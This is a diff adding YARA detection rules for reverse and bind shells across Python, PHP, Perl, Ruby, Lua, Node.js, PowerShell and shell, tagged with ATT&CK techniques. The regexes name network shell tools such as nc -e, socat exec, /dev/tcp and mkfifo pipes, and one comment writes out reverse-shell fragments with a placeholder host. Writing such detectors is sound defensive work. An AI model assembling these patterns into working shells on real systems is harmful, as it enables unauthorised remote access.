@@ -1,0 +1,134 @@
+// Reverse and bind shells written with a language's own socket API: a socket connected out
+// (or accepting) whose ends become a shell's standard input and output. T1059.* the
+// interpreter, T1095 a non-application-layer protocol (a raw TCP or UDP stream).
+// Scripts only: documentation that shows such a line (file_type "document") is left alone.
+
+rule python_reverse_shell
+{
+    meta:
+        severity = "high"
+        attack = "T1059.006,T1095"
+        description = "a Python reverse or bind shell: a socket whose ends become a shell's input and output"
+    strings:
+        $sock = /socket\.socket\s*\(/
+        $sock2 = /\b([a-z_]+\.)?socket\s*\(\s*([a-z_]+\.)?AF_INET/
+        $connect = /\.connect\s*\(\s*\(/
+        $bind = /\.bind\s*\(\s*\(.{0,300}\.accept\s*\(/s
+        $dup2 = /os\.dup2\s*\(\s*[a-z_]+\.fileno\s*\(\s*\)\s*,\s*[012]\s*\)/ nocase
+        $pty = /pty\.spawn\s*\(\s*["'](\/bin\/)?(ba|z|da|k)?sh/
+        $sub = /\b[a-z_]+\.(call|Popen|run)\s*\(\s*\[?\s*["'](\/bin\/(ba|z|da|k)?sh|sh|bash|cmd(\.exe)?|powershell)["']/
+        $fileno = /std(in|out|err)\s*=\s*[a-z_]+\.fileno\s*\(\s*\)/
+        $shell = /["'](\/bin\/(ba|z|da|k)?sh|cmd(\.exe)?)(\s+-i)?["']/
+    condition:
+        file_type != "document" and filesize < 2MB and ($sock or $sock2) and
+        ($connect or $bind) and ($pty or $sub or (($dup2 or $fileno) and $shell))
+}
+
+rule php_reverse_shell
+{
+    meta:
+        severity = "high"
+        attack = "T1059.004,T1095,T1505.003"
+        description = "a PHP reverse shell: fsockopen or socket_connect handed to a shell"
+    strings:
+        $fsock = /\b(fsockopen|pfsockopen|stream_socket_client|socket_connect)\s*\(/ nocase
+        $run = /\b(proc_open|exec|shell_exec|system|passthru|popen)\s*\(\s*["'](\/bin\/)?(ba|z|da)?sh\b[^"']{0,40}["']/ nocase
+        $run_fd = /\b(proc_open|exec|shell_exec|system|passthru|popen)\s*\(\s*["'][^"']{0,40}<&\s*[0-9]/ nocase
+        $desc = /proc_open\s*\([^;]{0,200}array\s*\(\s*0\s*=>\s*\$[a-z_]+/ nocase
+        $cmd = /["'](\/bin\/(ba|z|da)?sh|cmd(\.exe)?)(\s+-i)?["']/
+    condition:
+        file_type != "document" and filesize < 2MB and $fsock and ($run or $run_fd or ($desc and $cmd))
+}
+
+rule perl_ruby_lua_reverse_shell
+{
+    meta:
+        severity = "high"
+        attack = "T1059.004,T1095"
+        description = "a Perl, Ruby or Lua reverse shell: a TCP socket joined to a shell"
+    strings:
+        // Perl: socket/connect, or IO::Socket::INET, then STDIN/STDOUT duplicated onto it
+        $pl_sock = /\bsocket\s*\(\s*[A-Z]+\s*,\s*PF_INET/
+        $pl_io = /IO::Socket::INET\s*->\s*new\s*\(/
+        $pl_dup = /open\s*\(\s*STD(IN|OUT|ERR)\s*,\s*["']?>&/
+        $pl_fdopen = /STD(IN|OUT)\s*->\s*fdopen\s*\(/
+        $pl_loop = /\bsystem\s+\$_\s+while\s*</
+        // Ruby: TCPSocket and a shell on its descriptor
+        $rb_sock = /\bTCPSocket\.(new|open)\s*\(/
+        $rb_exec = /\b(exec|spawn|system|IO\.popen)\s*\(?\s*(sprintf\s*\(\s*)?["'](\/bin\/)?(ba|z|da)?sh\b/
+        $rb_popen = /IO\.popen\s*\(\s*[a-z_]+\s*,\s*["']r["']\s*\)/
+        // Lua: LuaSocket and io.popen or os.execute
+        $lua_sock = /\b[a-z_]+\.tcp\s*\(\s*\)/
+        $lua_req = /require\s*\(?\s*["']socket["']/
+        $lua_run = /\b(io\.popen|os\.execute)\s*\(/
+        $lua_recv = /:receive\s*\(/
+        $shell = /["'](\/bin\/)?(ba|z|da)?sh(\s+-i)?["' <]/
+        $shell2 = "/bin/sh"
+    condition:
+        file_type != "document" and filesize < 2MB and (
+            (($pl_sock or $pl_io) and ($pl_dup or $pl_fdopen or $pl_loop) and
+             ($shell or $shell2 or $pl_loop)) or
+            ($rb_sock and ($rb_exec or $rb_popen)) or
+            ($lua_sock and $lua_req and $lua_run and ($shell or $shell2 or $lua_recv)))
+}
+
+rule node_reverse_shell
+{
+    meta:
+        severity = "high"
+        attack = "T1059.007,T1095"
+        description = "a Node.js reverse shell: a net socket piped into a spawned shell"
+    strings:
+        $net = /(new\s+net\.Socket\s*\(|net\.connect\s*\(|net\.createConnection\s*\()/
+        $spawn = /\.spawn\s*\(\s*["'](\/bin\/)?(ba|z|da)?sh|cmd(\.exe)?["']/
+        $pipe = /\.std(in|out)\.pipe\s*\(/
+    condition:
+        file_type != "document" and filesize < 2MB and $net and $spawn and $pipe
+}
+
+rule powershell_reverse_shell
+{
+    meta:
+        severity = "high"
+        attack = "T1059.001,T1095"
+        description = "a PowerShell reverse or bind shell: a TCP client's stream read as commands and answered"
+    strings:
+        $client = /net\.sockets\.tcpclient/ nocase
+        $listener = /net\.sockets\.tcplistener/ nocase
+        $accept = /\.accepttcpclient\s*\(/ nocase
+        $stream = /\.getstream\s*\(\s*\)/ nocase
+        $run = /\b(iex|invoke-expression)\b/ nocase
+        $run2 = /\|\s*out-string/ nocase
+        $read = /\.read\s*\(\s*\$[a-z_]+\s*,\s*0\s*,/ nocase
+    condition:
+        file_type != "document" and filesize < 2MB and ($client or ($listener and $accept)) and
+        $stream and ($run or $run2) and $read
+}
+
+rule shell_socket_reverse_shell
+{
+    meta:
+        severity = "high"
+        attack = "T1059.004,T1095"
+        description = "a shell reverse or bind shell: /dev/tcp or /dev/udp as a shell's input and output, a named pipe between sh and nc, nc -e/-c, socat exec, awk /inet"
+    strings:
+        // sh -i >& /dev/udp/h/p 0>&1; exec 5<>/dev/tcp/h/p; 0<&196;exec 196<>/dev/tcp/h/p
+        $dev_shell = /\b(ba|z|da|k)?sh\s+(-i\s+)?[^\n]{0,20}[<>]&?\s*\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]+/
+        $dev_exec = /\bexec\s+[0-9]+\s*<>\s*\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]+/
+        $fd_shell = /\b(ba|z|da|k)?sh\s+(-i\s+)?<&\s*[0-9]+\s*>&\s*[0-9]+/
+        $fd_loop = /<&\s*[0-9]+\s*\|\s*while\s+read\b/
+        $fifo = /\b(mkfifo\s+|mknod\s+)[^\n;|&]{1,80}.{0,120}\b(ba|z|da|k)?sh\b[^\n]{0,60}\|\s*(nc|ncat|netcat|telnet|openssl\s+s_client)\b/
+        $fifo2 = /\b(mkfifo\s+|mknod\s+)[^\n;|&]{1,80}.{0,120}\b(nc|ncat|netcat|telnet|openssl\s+s_client)\b[^\n]{0,80}\|\s*(\/bin\/)?(ba|z|da|k)?sh\b/
+        $nc = /\b(nc|ncat|netcat|nc\.traditional)\s[^\n|;]{0,80}-(e|c)\s*["']?(\/bin\/)?(ba|z|da|k)?sh\b/
+        $nc_win = /\b(nc|ncat)(\.exe)?\s[^\n|;]{0,80}-e\s*["']?(cmd|powershell)(\.exe)?\b/ nocase
+        // socat with a network address and a shell (its own examples run proxies and filters
+        // with exec:, or a shell on standard input)
+        $socat = /\bsocat\s[^\n]{0,200}\b(tcp|tcp4|tcp6|tcp-l|tcp-listen|tcp-connect|udp|udp-l|udp-listen|openssl|openssl-listen|ssl|sctp)[:-][^\n]{0,200}\b(exec|system):["']?(\/bin\/)?(ba|z|da|k)?sh\b/ nocase
+        $socat2 = /\bsocat\s[^\n]{0,200}\b(exec|system):["']?((\/bin\/)?(ba|z|da|k)?sh|cmd|powershell)\b[^\n]{0,200}\s(tcp|tcp4|tcp6|tcp-l|tcp-listen|tcp-connect|udp|udp-l|udp-listen|openssl|openssl-listen|ssl|sctp)[:-]/ nocase
+        $socat_cmd = /\bsocat\s[^\n]{0,200}\b(tcp|tcp4|tcp6|tcp-l|tcp-listen|tcp-connect|udp|openssl|ssl)[:-][^\n]{0,200}\b(exec|system):["']?(cmd|powershell)(\.exe)?\b/ nocase
+        $awk = /\/inet\/(tcp|udp)\/[0-9]+\/[^\/\s]+\/[0-9]+/
+    condition:
+        file_type != "document" and filesize < 2MB and
+        ($dev_shell or ($dev_exec and ($fd_shell or $fd_loop)) or $fifo or $fifo2 or $nc or
+         $nc_win or $socat or $socat2 or $socat_cmd or $awk)
+}
